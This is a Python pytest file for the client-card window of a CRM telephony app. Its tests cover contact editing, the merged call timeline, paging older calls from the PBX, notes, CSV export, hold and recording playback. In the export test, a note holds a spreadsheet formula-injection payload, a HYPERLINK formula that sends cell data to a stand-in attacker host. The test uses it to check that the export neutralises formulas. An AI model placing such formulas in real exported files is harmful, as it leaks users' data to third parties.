"""The client card, offscreen: real engine and store, real HTTP posts to the webhook, FakePbx
for "Load older calls", a real local HTTP server for recordings.

Each test asserts what the agent sees (field and label texts, the timeline's rows, visible
buttons) or what was stored (reopening the card, the repositories).
"""

from __future__ import annotations

import csv
import io
import math
import struct
import time
import wave
from collections.abc import Iterator
from typing import Any

import pytest
from aiohttp import web
from PySide6.QtCore import QDate

from app.storage import ContactRecord, CrmUser, PhoneRecord
from app.ui.card import ClientCard
from app.ui.player import RecordingPlayer
from app.ui.timeline import TimelineModel
from tests.fakes.fake_pbx import make_cdr
from tests.support import canary
from tests.support.qtloop import run, settle, wait_until
from tests.support.webhook import call_body, cdr_body, envelope

M = TimelineModel
CLIENT = "+74952523060"
CLIENT_SHOWN = "+7 495 252-30-60"
STRANGER = "+74957654321"
STRANGER_SHOWN = "+7 495 765-43-21"

#: Offscreen Qt cannot pass size hints to a window system; harmless.
pytestmark = pytest.mark.qt_log_ignore("This plugin does not support propagateSizeHints")


# -- helpers -----------------------------------------------------------------------------------


def post(send, action: str, body: dict[str, Any]) -> None:
    status, reply = send(envelope(action, body))
    assert status == 200, reply


def hangup(call_id: str, answered_seconds: int | None = None, **kw: Any) -> dict[str, Any]:
    body = call_body(call_id, **kw)
    if answered_seconds is not None:
        body["variable_answersec"] = answered_seconds
    return body


def add_team(ctx, qloop) -> None:
    def write(session: Any) -> None:
        session.users.upsert(CrmUser("3", "Agent Three", "9022"))
        session.users.upsert(CrmUser("7", "Maria Seven", "9077"))

    run(qloop, ctx.api.engine.store.write(write))


def save_contact(ctx, qloop, name: str = "Ivan Petrov", *, company: str | None = "Romashka LLC",
                 owner: str | None = "3", phones: list[tuple[str, str | None]] | None = None,
                 email: str | None = "ivan@example.org", note: str | None = "Prefers mornings") -> int:
    phones = phones if phones is not None else [(CLIENT, "work"), ("+79161234567", "mobile")]

    def write(session: Any) -> int:
        company_id = session.contacts.company_id(company) if company else None
        records = [PhoneRecord(ctx.normalizer.key(raw), raw, label) for raw, label in phones]
        return session.contacts.save(ContactRecord(None, name, company_id=company_id, owner_id=owner, email=email,
                                                   note=note, phones=records))

    return run(qloop, ctx.api.engine.store.write(write))


def open_card(qtbot, ctx, qloop, contact_id: int | None = None, number: str | None = None,
              call_id: str | None = None) -> ClientCard:
    card = ClientCard(ctx, contact_id, number, call_id)
    qtbot.addWidget(card)
    card.show()
    wait_until(qloop, lambda: not card.is_loading)
    return card


def shown_rows(card: ClientCard) -> list[Any]:
    return card.timeline_proxy.visible_rows()


def texts(card: ClientCard, column: int) -> list[str]:
    proxy = card.timeline_proxy
    return [proxy.data(proxy.index(r, column)) for r in range(proxy.rowCount())]


def select(card: ClientCard, ref: str) -> None:
    assert card.select_call(ref), f"{ref} is not in the timeline"


class Recordings:
    """A tiny recording server on the Qt loop: 404 until a file is published at a path."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self.hits: list[str] = []
        self.url = ""
        self._runner: web.AppRunner | None = None

    async def start(self) -> None:
        app = web.Application()
        app.router.add_get("/{name}", self._get)
        self._runner = web.AppRunner(app, access_log=None, shutdown_timeout=1.0)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        host, port = self._runner.addresses[0][:2]
        self.url = f"http://{host}:{port}"

    async def stop(self) -> None:
        if self._runner is not None:
            await self._runner.cleanup()

    async def _get(self, request: web.Request) -> web.StreamResponse:
        name = request.match_info["name"]
        self.hits.append(name)
        body = self.files.get(name)
        if body is None:
            return web.Response(status=404, text="not found")
        return web.Response(body=body, content_type="audio/wav")


@pytest.fixture
def recordings(qloop) -> Iterator[Recordings]:
    server = Recordings()
    run(qloop, server.start())
    yield server
    run(qloop, server.stop())


def wav_bytes(seconds: float = 2.0, rate: int = 8000) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(rate)
        frames = int(seconds * rate)
        w.writeframes(b"".join(struct.pack("<h", int(6000 * math.sin(i / 6))) for i in range(frames)))
    return out.getvalue()


# -- details ----------------------------------------------------------------------------------


def test_the_card_shows_the_contact_company_phones_owner_email_and_note(qtbot, ctx, qloop):
    add_team(ctx, qloop)
    contact_id = save_contact(ctx, qloop)
    card = open_card(qtbot, ctx, qloop, contact_id)

    assert card.title_label.text() == "Ivan Petrov"
    assert card.subtitle_label.text() == "Romashka LLC"
    assert card.windowTitle() == "Client card — Ivan Petrov"
    form = card.form
    assert form.name_edit.text() == "Ivan Petrov"
    assert form.company_edit.text() == "Romashka LLC"
    assert [(r.number(), r.label()) for r in form.phone_rows()] == [(CLIENT, "work"), ("+79161234567", "mobile")]
    assert form.owner_combo.currentText() == "Agent Three (you)"
    assert [form.owner_combo.itemText(i) for i in range(form.owner_combo.count())] == [
        "— nobody —", "Agent Three (you)", "Maria Seven"]
    assert form.email_edit.text() == "ivan@example.org"
    assert form.note_edit.toPlainText() == "Prefers mornings"
    assert not form.error_label.isVisible()


def test_call_next_to_a_number_asks_the_shell_to_dial_it(qtbot, ctx, qloop):
    card = open_card(qtbot, ctx, qloop, save_contact(ctx, qloop))
    dialed: list[str] = []
    card.dial_requested.connect(dialed.append)
    card.form.phone_rows()[1].call_button.click()
    assert dialed == ["+79161234567"]


def test_edits_are_saved_and_shown_when_the_card_is_opened_again(qtbot, ctx, qloop):
    add_team(ctx, qloop)
    contact_id = save_contact(ctx, qloop)
    card = open_card(qtbot, ctx, qloop, contact_id)
    form = card.form
    form.name_edit.setText("Ivan A. Petrov")
    form.company_edit.setText("Vasilek JSC")
    form.owner_combo.setCurrentIndex(form.owner_combo.findData("7"))
    form.email_edit.setText("petrov@vasilek.example")
    form.note_edit.setPlainText("Call after 10")
    form.phone_rows()[0].label_combo.setCurrentText("office")
    form.phone_rows()[1].remove_button.click()
    new = form.add_phone("8 (812) 123-45-67", "home")
    assert new.number() == "8 (812) 123-45-67"
    saved: list[int] = []
    card.contact_saved.connect(saved.append)
    card.save_button.click()
    wait_until(qloop, lambda: saved)
    assert saved == [contact_id]
    wait_until(qloop, lambda: not card.is_loading)
    assert card.save_status_label.text() == "Saved."
    assert card.title_label.text() == "Ivan A. Petrov" and card.subtitle_label.text() == "Vasilek JSC"

    again = open_card(qtbot, ctx, qloop, contact_id)
    assert again.form.name_edit.text() == "Ivan A. Petrov"
    assert again.form.company_edit.text() == "Vasilek JSC"
    assert again.form.owner_combo.currentText() == "Maria Seven"
    assert again.form.email_edit.text() == "petrov@vasilek.example"
    assert again.form.note_edit.toPlainText() == "Call after 10"
    assert [(r.number(), r.label()) for r in again.form.phone_rows()] == [
        (CLIENT, "office"), ("8 (812) 123-45-67", "home")]
    stored = run(qloop, ctx.api.engine.store.read(lambda s: s.contacts.get(contact_id)))
    assert [p.key for p in stored.phones] == ["74952523060", "78121234567"]
    assert stored.owner_id == "7"


def test_an_unknown_owner_id_is_kept_when_saving(qtbot, ctx, qloop):
    add_team(ctx, qloop)
    contact_id = save_contact(ctx, qloop, owner="1004")  # e.g. an extension from an import
    card = open_card(qtbot, ctx, qloop, contact_id)
    assert card.form.owner_combo.currentText() == "Unknown employee (1004)"
    card.save_button.click()
    wait_until(qloop, lambda: card.save_status_label.text() == "Saved.")
    assert run(qloop, ctx.api.engine.store.read(lambda s: s.contacts.get(contact_id))).owner_id == "1004"


def test_a_missing_name_and_a_bad_number_are_shown_inline_and_nothing_is_lost(qtbot, ctx, qloop):
    contact_id = save_contact(ctx, qloop)
    card = open_card(qtbot, ctx, qloop, contact_id)
    form = card.form
    form.name_edit.setText("  ")
    form.phone_rows()[1].number_edit.setText("134-30-60")
    form.email_edit.setText("not an address")
    form.note_edit.setPlainText("typed and not to be lost")
    card.save_button.click()
    settle(qloop, 0.1)

    assert form.error_label.isVisible()
    errors = form.error_label.text()
    assert "Enter the client's name." in errors
    assert "Number 2: Not a phone number" in errors
    assert "e-mail" in errors
    assert form.phone_rows()[1].error_label.isVisible()
    assert card.save_status_label.text() == "Not saved: see the errors above."
    # what was typed stays, and nothing reached the store
    assert form.phone_rows()[1].number() == "134-30-60" and form.note_edit.toPlainText() == "typed and not to be lost"
    stored = run(qloop, ctx.api.engine.store.read(lambda s: s.contacts.get(contact_id)))
    assert stored.name == "Ivan Petrov" and stored.note == "Prefers mornings"

    form.name_edit.setText("Ivan Petrov")
    form.phone_rows()[1].number_edit.setText("+7 916 123-45-67")
    form.email_edit.setText("ivan@example.org")
    card.save_button.click()
    wait_until(qloop, lambda: card.save_status_label.text() == "Saved.")
    assert not form.error_label.isVisible()
    stored = run(qloop, ctx.api.engine.store.read(lambda s: s.contacts.get(contact_id)))
    assert stored.note == "typed and not to be lost"


def test_create_contact_from_an_unknown_number_links_its_earlier_calls(qtbot, ctx, qloop, send):
    # two earlier calls from the number (one with its CDR), and the call ringing now
    post(send, "call_ringing", call_body("old-1", other_leg=STRANGER))
    post(send, "call_hangup", hangup("old-1", other_leg=STRANGER))
    started = time.time()
    post(send, "call_ringing", call_body("old-2", other_leg=STRANGER))
    post(send, "call_answer", call_body("old-2", other_leg=STRANGER))
    post(send, "call_hangup", hangup("old-2", 40, other_leg=STRANGER))
    post(send, "cdr_append", cdr_body("old-2", src=STRANGER, dt=started, billsec=40))
    post(send, "call_ringing", call_body("now-1", other_leg=STRANGER))

    card = open_card(qtbot, ctx, qloop, None, STRANGER, "now-1")
    assert card.title_label.text() == "New contact"
    assert card.subtitle_label.text() == STRANGER_SHOWN
    assert [r.number() for r in card.form.phone_rows()] == [STRANGER]
    assert card.form.name_edit.text() == ""
    assert [r.call_id for r in shown_rows(card)] == ["now-1", "old-2", "old-1"]
    assert texts(card, M.COL_STATUS) == ["Ringing", "Answered", "Missed"]
    assert card.call_state_label.text() == "Current call: Ringing"

    card.form.name_edit.setText("Olga New")
    saved: list[int] = []
    card.contact_saved.connect(saved.append)
    card.save_button.click()
    wait_until(qloop, lambda: saved)
    wait_until(qloop, lambda: card.title_label.text() == "Olga New")
    contact_id = saved[0]
    assert card.contact_id == contact_id

    def links(session: Any) -> tuple[list[Any], Any]:
        return ([session.calls.get(c).contact_id for c in ("old-1", "old-2", "now-1")],
                session.cdrs.get("old-2").contact_id)

    call_links, cdr_link = run(qloop, ctx.api.engine.store.read(links))
    assert call_links == [contact_id] * 3 and cdr_link == contact_id
    assert [r.call_id for r in shown_rows(card)] == ["now-1", "old-2", "old-1"]
    # the card now follows the contact: the call goes on, and shows here
    post(send, "call_answer", call_body("now-1", other_leg=STRANGER))
    assert texts(card, M.COL_STATUS)[0] == "In progress"
    assert card.call_state_label.text() == "Current call: In progress"


def test_a_number_that_belongs_to_a_contact_opens_that_contact(qtbot, ctx, qloop):
    contact_id = save_contact(ctx, qloop)
    card = open_card(qtbot, ctx, qloop, None, "8 495 252-30-60")
    assert card.contact_id == contact_id and card.title_label.text() == "Ivan Petrov"


# -- the timeline -----------------------------------------------------------------------------


def client_history(send) -> None:
    """An answered call with its CDR a minute ago, a missed call now, an outgoing one 3 days ago."""
    now = time.time()
    post(send, "cdr_append", cdr_body("out-3d", src="9022", dst=CLIENT, direction=1, dt=now - 3 * 86400, billsec=0,
                                      link=None))
    post(send, "call_ringing", call_body("ans-1"))
    post(send, "call_answer", call_body("ans-1"))
    post(send, "call_hangup", hangup("ans-1", 50))
    post(send, "cdr_append", cdr_body("ans-1", dt=now - 60, duration=55, billsec=50))
    post(send, "call_ringing", call_body("miss-1"))
    post(send, "call_hangup", hangup("miss-1"))


def test_the_timeline_merges_journal_and_cdrs_newest_first_after_real_events(qtbot, ctx, qloop, send):
    contact_id = save_contact(ctx, qloop)
    client_history(send)
    card = open_card(qtbot, ctx, qloop, contact_id)
    assert [r.ref for r in shown_rows(card)] == ["miss-1", "ans-1", "out-3d"]
    assert texts(card, M.COL_STATUS) == ["Missed", "Answered", "Not answered"]
    assert texts(card, M.COL_DIRECTION) == ["Incoming", "Incoming", "Outgoing"]
    assert texts(card, M.COL_NUMBER) == [CLIENT_SHOWN] * 3
    assert texts(card, M.COL_BILLSEC) == ["", "0:50", "0:00"]
    assert texts(card, M.COL_RECORDING) == ["—", "Yes", "—"]
    assert card.timeline_view.model().rowCount() == 3

    # the timeline is live: a new call from a second number of the contact shows on top
    post(send, "call_ringing", call_body("live-1", other_leg="+79161234567"))
    assert [r.ref for r in shown_rows(card)][:2] == ["live-1", "miss-1"]
    assert texts(card, M.COL_STATUS)[0] == "Ringing"
    # a CDR arriving for it joins the same row
    post(send, "call_hangup", hangup("live-1", 12, other_leg="+79161234567"))
    post(send, "cdr_append", cdr_body("live-1", src="+79161234567", dt=time.time(), billsec=12))
    assert [r.ref for r in shown_rows(card)] == ["live-1", "miss-1", "ans-1", "out-3d"]
    assert texts(card, M.COL_STATUS)[0] == "Answered" and texts(card, M.COL_RECORDING)[0] == "Yes"
    # another client's call does not
    post(send, "call_ringing", call_body("other-1", other_leg=STRANGER))
    assert len(shown_rows(card)) == 4


def test_filter_by_direction_and_by_dates(qtbot, ctx, qloop, send):
    contact_id = save_contact(ctx, qloop)
    client_history(send)
    card = open_card(qtbot, ctx, qloop, contact_id)
    card.direction_combo.setCurrentIndex(card.direction_combo.findText("Outgoing"))
    assert [r.ref for r in shown_rows(card)] == ["out-3d"]
    card.direction_combo.setCurrentIndex(card.direction_combo.findText("Incoming"))
    assert [r.ref for r in shown_rows(card)] == ["miss-1", "ans-1"]
    card.direction_combo.setCurrentIndex(card.direction_combo.findText("All calls"))
    today = QDate.currentDate()
    card.set_date_range(today.addDays(-1), today)
    assert [r.ref for r in shown_rows(card)] == ["miss-1", "ans-1"]
    card.set_date_range(today.addDays(-10), today.addDays(-2))
    assert [r.ref for r in shown_rows(card)] == ["out-3d"]
    assert card.date_from.isEnabled()
    card.date_check.setChecked(False)
    assert len(shown_rows(card)) == 3


# -- older calls from the PBX -------------------------------------------------------------------


def test_load_older_calls_pages_through_the_pbx_with_progress_then_the_count(qtbot, ctx, qloop, send, pbx):
    contact_id = save_contact(ctx, qloop, phones=[(CLIENT, None)])
    now = time.time()
    pbx.cdrs = [make_cdr(f"pbx-{i:03d}", now - 3600 * (i + 1), src=CLIENT, dst="9022")
                     for i in range(250)]
    # two of them came in as events already
    for i in (0, 1):
        post(send, "cdr_append", {**pbx.cdrs[i], "link": None})
    card = open_card(qtbot, ctx, qloop, contact_id)
    assert card.timeline_model.rowCount() == 2
    progress: list[tuple[int, bool, str]] = []
    card.pbx_progress.connect(lambda n: progress.append((n, card.progress_bar.isVisible(), card.progress_label.text())))
    finished: list[tuple[int, int]] = []
    card.pbx_finished.connect(lambda fetched, added: finished.append((fetched, added)))

    card.load_older_button.click()
    assert card.progress_bar.isVisible() and card.cancel_load_button.isVisible()
    assert not card.load_older_button.isEnabled()
    wait_until(qloop, lambda: finished, timeout=10)

    assert [(n, busy) for n, busy, _ in progress] == [(100, True), (200, True), (250, True)]
    assert "100" in progress[0][2]
    assert finished == [(250, 248)]
    assert not card.progress_bar.isVisible() and not card.cancel_load_button.isVisible()
    assert card.load_older_button.isEnabled()
    assert "Loaded 250" in card.progress_label.text() and "248 new" in card.progress_label.text()
    assert card.timeline_model.rowCount() == 250
    refs = [r.ref for r in shown_rows(card)]
    assert refs[0] == "pbx-000" and refs[-1] == "pbx-249" and len(set(refs)) == 250
    get_cdr = [r for r in pbx.requests if r["action"] == "get_cdr"]
    assert [r["offset"] for r in get_cdr] == [0, 100, 200]
    assert {"+74952523060", "74952523060"} <= set(get_cdr[0]["params"]["src_or_dst_list"])
    # stored: the next card has them without asking the PBX
    assert run(qloop, ctx.api.engine.store.read(lambda s: s.cdrs.count())) == 250
    again = open_card(qtbot, ctx, qloop, contact_id)
    assert again.timeline_model.rowCount() == 250
    assert len(pbx.requests) == 3


def test_a_pbx_error_while_loading_older_calls_is_shown_plainly(qtbot, ctx, qloop, pbx):
    pbx.mode = "http500"
    card = open_card(qtbot, ctx, qloop, save_contact(ctx, qloop))
    card.load_older_button.click()
    wait_until(qloop, lambda: not card.is_loading_from_pbx, timeout=15)
    assert card.message_label.isVisible()
    message = card.message_label.text()
    assert "HTTP 500" in message and "Traceback" not in message
    assert not card.progress_bar.isVisible() and card.load_older_button.isEnabled()


def test_loading_older_calls_can_be_cancelled(qtbot, ctx, qloop, pbx):
    pbx.mode = "hang"
    card = open_card(qtbot, ctx, qloop, save_contact(ctx, qloop))
    card.load_older_button.click()
    wait_until(qloop, lambda: pbx.requests)
    assert card.progress_bar.isVisible()
    card.cancel_load_button.click()
    assert not card.progress_bar.isVisible() and card.load_older_button.isEnabled()
    assert card.progress_label.text().startswith("Cancelled")
    settle(qloop, 0.1)
    assert not card.message_label.isVisible()  # a cancel is no error


def test_load_older_calls_without_a_pbx_says_what_to_set_up(qtbot, ctx, qloop):
    card = open_card(qtbot, ctx, qloop, save_contact(ctx, qloop))
    card.load_older_button.click()
    assert card.message_label.isVisible() and "PBX address" in card.message_label.text()
    assert not card.is_loading_from_pbx


# -- notes, export ------------------------------------------------------------------------------


def test_a_note_and_outcome_are_saved_and_shown_after_reopening(qtbot, ctx, qloop, send):
    contact_id = save_contact(ctx, qloop)
    client_history(send)
    card = open_card(qtbot, ctx, qloop, contact_id)
    assert not card.note_edit.isEnabled()
    select(card, "ans-1")
    assert card.note_edit.isEnabled() and card.note_edit.text() == ""
    card.note_edit.setText("Wants a quote by Friday")
    card.outcome_combo.setCurrentText("Call back")
    card.save_note_button.click()
    wait_until(qloop, lambda: card.message_label.text() == "Note saved.")
    assert texts(card, M.COL_NOTE)[1] == "Call back · Wants a quote by Friday"

    again = open_card(qtbot, ctx, qloop, contact_id)
    assert texts(again, M.COL_NOTE) == ["", "Call back · Wants a quote by Friday", ""]
    select(again, "ans-1")
    assert again.note_edit.text() == "Wants a quote by Friday"
    assert again.outcome_combo.currentText() == "Call back"
    select(again, "miss-1")
    assert again.note_edit.text() == "" and again.outcome_combo.currentText() == ""


def test_export_csv_writes_the_shown_calls_without_link_tokens(qtbot, ctx, qloop, send, tmp_path):
    contact_id = save_contact(ctx, qloop)
    client_history(send)
    run(qloop, ctx.api.engine.store.write(lambda s: s.notes.set("ans-1", "Agreed", "Sale", time.time())))
    run(qloop, ctx.api.engine.store.write(
        lambda s: s.notes.set("miss-1", '=HYPERLINK("http://evil.example/?d="&A1)', "@SUM(1)", time.time())))
    card = open_card(qtbot, ctx, qloop, contact_id)
    target = tmp_path / "calls.csv"
    card.export_csv(target)
    wait_until(qloop, lambda: card.message_label.text().startswith("Exported"))
    data = target.read_text(encoding="utf-8-sig")
    assert canary.LINK_TOKEN not in data and "get_file" not in data
    table = list(csv.DictReader(io.StringIO(data)))
    assert [(r["call_ref"], r["direction"], r["status"], r["recording"]) for r in table] == [
        ("miss-1", "incoming", "missed", "no"), ("ans-1", "incoming", "answered", "yes"),
        ("out-3d", "outgoing", "no_answer", "no")]
    # a number stays readable, marked as text ("+7 …" would be computed); no cell starts a formula
    assert table[1]["number"] == "'" + CLIENT_SHOWN and table[1]["billsec"] == "50" and table[1]["duration"] == "55"
    assert (table[1]["outcome"], table[1]["note"]) == ("Sale", "Agreed")
    assert (table[0]["outcome"], table[0]["note"]) == ("'@SUM(1)", '\'=HYPERLINK("http://evil.example/?d="&A1)')
    assert not [c for r in csv.reader(io.StringIO(data)) for c in r if c.startswith(("=", "+", "-", "@", "\t", "\r"))]

    # the button asks for a file (without a nested event loop); the filters apply to the export
    card.direction_combo.setCurrentIndex(card.direction_combo.findText("Outgoing"))
    card.export_button.click()
    dialog = card.export_dialog
    assert dialog is not None and dialog.isVisible()
    outgoing = tmp_path / "outgoing.csv"
    dialog.selectFile(str(outgoing))
    dialog.accept()
    wait_until(qloop, lambda: outgoing.exists() and card.message_label.text().endswith("outgoing.csv."))
    assert [r["call_ref"] for r in csv.DictReader(io.StringIO(outgoing.read_text("utf-8-sig")))] == ["out-3d"]


# -- hold ----------------------------------------------------------------------------------------


def test_hold_on_the_current_call_follows_the_pbx_events(qtbot, ctx, qloop, send, pbx):
    contact_id = save_contact(ctx, qloop)
    post(send, "call_ringing", call_body("h1"))
    card = open_card(qtbot, ctx, qloop, contact_id, None, "h1")
    assert not card.hold_button.isVisible()
    post(send, "call_answer", call_body("h1"))
    assert card.hold_button.isVisible() and card.hold_button.text() == "Hold"
    card.hold_button.click()
    wait_until(qloop, lambda: pbx.holds)
    assert pbx.holds == [{"crm_user_id": "3", "call_id": "h1"}]
    wait_until(qloop, lambda: card.hold_button.isEnabled())
    assert card.hold_button.text() == "Hold"  # not until the PBX says so
    post(send, "call_held", {"call_id": "h1", "session_id": "s-h1", "user_uid": "9022", "crm_user": "3",
                             "other_leg": CLIENT, "direction": 0})
    assert card.hold_button.text() == "Resume" and card.call_state_label.text() == "Current call: On hold"


# -- recordings ----------------------------------------------------------------------------------


def test_a_call_without_a_recording_link_says_not_ready_and_gets_it_with_its_cdr(qtbot, ctx, qloop, send):
    contact_id = save_contact(ctx, qloop)
    client_history(send)
    card = open_card(qtbot, ctx, qloop, contact_id)
    select(card, "miss-1")  # the journal has it; its CDR (and link) has not come yet
    player = card.player
    assert player.state == RecordingPlayer.NOT_READY
    assert player.status_label.text().startswith("Recording not ready yet")
    assert player.retry_button.isVisible() and not player.play_button.isEnabled()
    assert not player.open_button.isEnabled()
    player.retry_button.click()  # still nothing stored: still not ready
    settle(qloop, 0.1)
    assert player.state == RecordingPlayer.NOT_READY and player.retry_button.isVisible()

    post(send, "cdr_append", cdr_body("miss-1", dt=time.time(), billsec=0))
    assert player.state == RecordingPlayer.READY and player.play_button.isEnabled()
    assert player.open_button.toolTip() == "pbx.example.com/get_file"
    assert not player.retry_button.isVisible()
    assert texts(card, M.COL_RECORDING)[0] == "Yes"


#: What QtMultimedia says on a machine without PipeWire, VA-API or PulseAudio (CI), and the
#: FFmpeg backend's own warning for the 404 the test provokes.
MEDIA_NOISE = ("propagateSizeHints", "Couldn't load .* library", "Couldn't resolve .* symbols", "PulseAudio",
               "No audio device", "Could not open media")


@pytest.mark.qt_log_ignore(*MEDIA_NOISE)
def test_a_recording_that_answers_404_says_not_ready_and_retry_plays_it_once_published(
        qtbot, ctx, qloop, send, recordings, capfd):
    contact_id = save_contact(ctx, qloop)
    link = f"{recordings.url}/rec-1.wav?token={canary.LINK_TOKEN}"
    post(send, "cdr_append", cdr_body("rec-1", dt=time.time() - 30, link=link))
    card = open_card(qtbot, ctx, qloop, contact_id)
    select(card, "rec-1")
    player = card.player
    assert player.state == RecordingPlayer.READY and player.play_button.isEnabled()
    assert player.open_button.toolTip() == "127.0.0.1/rec-1.wav"

    player.play_button.click()
    wait_until(qloop, lambda: player.state == RecordingPlayer.NOT_READY, timeout=10)
    assert recordings.hits == ["rec-1.wav"]
    assert player.status_label.text().startswith("Recording not ready yet")
    assert player.retry_button.isVisible()
    for label in (player.status_label.text(), player.time_label.text(), player.open_button.toolTip(),
                  card.message_label.text()):
        assert canary.LINK_TOKEN not in label

    from PySide6.QtMultimedia import QMediaPlayer

    if not QMediaPlayer().isAvailable():
        pytest.skip("QtMultimedia has no usable media backend on this machine (QMediaPlayer.isAvailable() is False)")
    states: list[str] = []
    player.state_changed.connect(states.append)
    recordings.files["rec-1.wav"] = wav_bytes()
    player.retry_button.click()
    wait_until(qloop, lambda: RecordingPlayer.PLAYING in states, timeout=10)
    assert states[:2] == [RecordingPlayer.READY, RecordingPlayer.LOADING]
    assert player.play_button.text() == "Pause" and not player.retry_button.isVisible()
    wait_until(qloop, lambda: player.duration_ms > 0)
    assert player.seek_slider.maximum() == player.duration_ms
    assert player.time_label.text().endswith("/ 0:02")
    player.set_speed(1.5)
    assert player.speed_combo.currentText() == "1.5×"
    player.play_button.click()
    wait_until(qloop, lambda: player.state == RecordingPlayer.PAUSED)
    assert player.play_button.text() == "Play"
    # on to the end before the card closes: QtMultimedia's stop() while paused can block forever
    # on a machine without a sound server (seen once in a full run; see test_agent_day's no-audio test)
    player.play_button.click()
    wait_until(qloop, lambda: player.state == RecordingPlayer.FINISHED, timeout=15)
    card.close()
    assert player.state == RecordingPlayer.READY
    out, err = capfd.readouterr()
    assert canary.LINK_TOKEN not in out + err  # FFmpeg prints opened URLs unless told not to
